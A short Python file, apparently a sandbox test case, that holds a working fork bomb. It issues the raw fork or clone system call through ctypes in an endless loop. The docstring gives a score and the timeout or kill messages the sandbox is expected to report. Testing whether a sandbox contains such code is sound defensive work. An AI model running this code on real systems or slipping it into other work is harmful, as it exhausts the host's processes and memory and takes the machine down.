"""A fork bomb by the bare system call.

score: 40
says: took more than|ran more than|ended the process|used up|waiting
"""

import ctypes, platform
bare = ctypes.CDLL(None).syscall
words = (57,) if platform.machine() == "x86_64" else (220, 17, 0, 0, 0, 0)
while True:
    bare(*words)
